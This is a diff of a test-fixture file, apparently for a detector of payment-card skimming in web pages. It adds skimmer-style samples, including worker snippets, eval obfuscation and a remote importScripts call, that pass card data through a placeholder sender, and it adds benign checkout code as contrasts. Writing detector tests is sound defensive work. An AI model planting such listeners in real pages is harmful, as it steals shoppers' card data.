@@ -33,6 +33,19 @@ const HOSTILE: readonly (readonly [name: string, listens: string, gives: string]
     `${ECHO};${H};w.addEventListener('message',H)`,
     `w.postMessage(${TYPED})`,
   ],
+  ...[
+    'onmessage=function(e){this.postMessage(e.data)}',
+    'onmessage=function(e){e.target.postMessage(e.data)}',
+    "onmessage=function(e){eval('post'+'Message(e.data)')}",
+    'onmessage=function(e){Promise.resolve(e.data).then(postMessage)}',
+    "importScripts('https://cdn.example.org/w.js')",
+    '@onmessage=function(e){postMessage(e.data)}',
+    'onmessage=function(e){for(var i=0;i<1e9;i++){};postMessage(e.data)}',
+  ].map((code): readonly [string, string, string] => [
+    `a worker whose code is not followed to its end, ${code}`,
+    worker(code),
+    `w.postMessage(${TYPED});w.onmessage=function(e){${SENDS}(e.data)}`,
+  ]),
   [
     'a class of events',
     `class M extends Event{constructor(card){super('x:m');this.card=card}}addEventListener('x:m',e=>${SENDS}(e.card))`,
@@ -90,16 +103,6 @@ const HOSTILE: readonly (readonly [name: string, listens: string, gives: string]
     `throw new Error(${NUMBER})`,
   ],
   ['an error that is reported', `addEventListener('error',e=>${SENDS}(e.error))`, `reportError(${TYPED})`],
-  [
-    'the reason of a rejection',
-    `addEventListener('unhandledrejection',e=>${SENDS}(e.reason))`,
-    `Promise.reject(${TYPED})`,
-  ],
-  [
-    'the reason of a promise that it rejects',
-    `onunhandledrejection=e=>${SENDS}(e.reason)`,
-    `new Promise((_,no)=>no(${TYPED}))`,
-  ],
   ['a rejection that is caught', '', `Promise.reject(${TYPED}).catch(r=>${SENDS}(r))`],
   [
     'an event of a rejection',
@@ -226,6 +229,27 @@ export const HONEST_OWN_MESSAGES: readonly HonestCase[] = [
   {
     name: 'a rejection of a card, which the form shows',
     source: `const check=n=>n.length<12?Promise.reject('too short: '+n):Promise.resolve(n);document.querySelector('#cc_number').onchange=function(){check(this.value).catch(m=>{document.querySelector('#message').textContent=m})};addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',e.reason.stack))`,
+  },
+  ...[
+    `document.querySelector('#place_order').onclick=function(){check(document.querySelector('#cc_number').value).then(v=>pay(v)).catch(e=>{document.querySelector('#m').textContent=e})}`,
+    `document.querySelector('#place_order').onclick=async function(){try{await check(document.querySelector('#cc_number').value);pay()}catch(e){document.querySelector('#m').textContent=e}}`,
+    `document.querySelector('#place_order').onclick=function(){Promise.all([check(document.querySelector('#cc_number').value)]).then(pay).catch(e=>{document.querySelector('#m').textContent=e})}`,
+    `var p=check(document.querySelector('#cc_number').value);p.then(pay);document.querySelector('#m').onclick=()=>p.catch(e=>{document.querySelector('#m').textContent=e})`,
+  ].map((checks, index) => ({
+    name: `a check of a card that rejects, beside a log of rejections (${index + 1})`,
+    source: `addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',String(e.reason)));const check=v=>new Promise((y,n)=>{v.length>12?y(v):n(v+' is no card')});${checks}`,
+  })),
+  {
+    name: 'a failed request with the members of its error, beside a log of rejections',
+    source: `addEventListener('unhandledrejection',e=>navigator.sendBeacon('https://log.example.net/r',String(e.reason)));function post(u,b){return new Promise((y,n)=>{var x=new XMLHttpRequest;x.open('POST',u);x.onload=()=>{var res={status:x.status,data:x.response,config:{url:u,data:b},request:x};x.status===200?y(res):n(Object.assign(new Error('HTTP '+x.status),{response:res}))};x.send(b)})}document.querySelector('#place_order').onclick=()=>post('/api/pay',document.querySelector('#cc_number').value).then(r=>alert(r));`,
+  },
+  {
+    name: 'a search in the address, counted views of pages, and two fields of a card for the own site',
+    source: `document.querySelector('#q').addEventListener('change',function(){history.replaceState(null,'','?q='+encodeURIComponent(this.value));track()});function track(){navigator.sendBeacon('https://stats.example.org/v',JSON.stringify({u:location.href,r:document.referrer}))}track();${AT_ORDER(`fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})})`)}`,
+  },
+  {
+    name: 'an event of a card field, and a listener of a search field',
+    source: `function setValue(el,v){el.value=v;el.dispatchEvent(new InputEvent('input',{data:v,bubbles:true}))}document.querySelector('#cc_number').onblur=function(){setValue(this,this.value.trim())};document.querySelector('#search').addEventListener('input',e=>{fetch('https://search.example.net/?q='+e.target.value)});`,
   },
   {
     name: 'a theme of another window, which is counted, beside a draft that is stored',
